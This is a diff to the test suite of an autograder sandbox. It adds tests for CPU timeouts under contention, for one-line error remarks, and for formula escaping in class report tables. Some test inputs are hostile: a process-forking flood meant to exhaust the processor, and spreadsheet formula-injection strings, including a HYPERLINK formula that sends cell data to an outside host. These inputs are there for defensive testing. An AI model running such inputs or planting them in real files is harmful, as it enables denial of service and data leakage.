@@ -19,11 +19,12 @@ import pytest
 import autograder.sandbox as box
 from autograder.authoring.course import find_lesson
 from autograder.grading import collect, intake
-from autograder.grading.marking import verdicts
+from autograder.grading.marking import mark, verdicts
+from autograder.grading.reports import class_table
 from autograder.judging.values import MAX_KEY, encode
 from autograder.notebooks.archives import File
 from autograder.plugins.sanitise import PageExporter
-from autograder.sandbox import Cell, Sandbox, codec
+from autograder.sandbox import Cell, Sandbox, codec, process
 from autograder.sandbox.wire import WireError
 
 LESSON = "03_scaled_dot_product"
@@ -200,6 +201,50 @@ def test_an_array_that_is_sent_once_is_in_one_place() -> None:
     with pytest.raises(WireError, match="in one place"):
         codec.fetch_tree([twice, 0, 2], arrays)
     assert codec.fetch_tree([{"l": [{"a": 0, "k": "array"}, {"a": 1, "k": "array"}]}, 0, 2], arrays) is not None
+
+
+SPIN = "import time\nuntil = time.process_time() + {}\nwhile time.process_time() < until: pass"
+CROWD = "import os\nfor _ in range(30):\n    if os.fork() == 0:\n        os.setsid()\n        while True: pass\nwhile True: pass"
+
+
+def test_a_cell_that_waits_for_a_processor_has_the_seconds_of_one_that_does_not() -> None:
+    """Half a second of work and a limit of one, with six others in line, each with a session of its own, as if not one's."""
+    if not process.TELLS:
+        pytest.skip("this kernel does not say how long a process waited")
+    for tier in (each.name for each in box.available_tiers() if each.available and each.name != "none"):
+        with Sandbox(tier, box.Limits(cell_s=1.0, wall_s=20.0), ("numpy",)) as sandbox:
+            assert sandbox._host is not None
+            assert sandbox._host._process is not None
+            worker, cpu = sandbox._host._inner or sandbox._host._process.pid, min(os.sched_getaffinity(0))
+            spin = f"import os; os.sched_setaffinity(0, {{{cpu}}})\nwhile True: pass"
+            os.sched_setaffinity(worker, {cpu})
+            others = [subprocess.Popen([sys.executable, "-c", spin], start_new_session=True) for _ in range(6)]
+            try:
+                cells = [Cell("a", SPIN.format(0.5)), Cell("b", SPIN.format(99)), Cell("c", "import time\ntime.sleep(99)")]
+                with sandbox.submission(cells) as submitted:
+                    assert [cell.status for cell in submitted.outputs] == ["ok", "timeout", "timeout"], tier
+            finally:
+                for other in others:
+                    other.kill()
+                    other.wait()
+            with sandbox.submission([Cell("a", "x = 1")]):
+                pass
+            began = time.monotonic()
+            with sandbox.submission([Cell("a", CROWD)]) as submitted:
+                assert submitted.outputs[0].status == "timeout"
+            assert time.monotonic() - began < 12, "a crowd of one's own earns no patience"
+
+
+def test_a_remark_on_what_a_cell_said_is_one_line() -> None:
+    failed = nbformat.v4.new_output("error", ename="ValueError", evalue="\n" * 300 + "x", traceback=[])
+    assert mark._error(nbformat.v4.new_code_cell("", outputs=[failed])) == "ValueError: x"
+
+
+@pytest.mark.parametrize("text", ['a.txt;=HYPERLINK("http://example.org?"&A1)', "a; +1", "x\t=1", "=1;-1", "a;\uff1d1"])
+def test_no_cell_is_a_formula_where_a_semicolon_parts_them(text: str) -> None:
+    parts = [part for half in class_table.cell(text).split(";") for part in half.split("\t")]
+    assert not any(part.lstrip()[:1] in {*"=+-@", "\uff1d"} for part in parts)
+    assert class_table.cell("Ann; b - c") == "Ann; b - c"
 
 
 PAGES = {
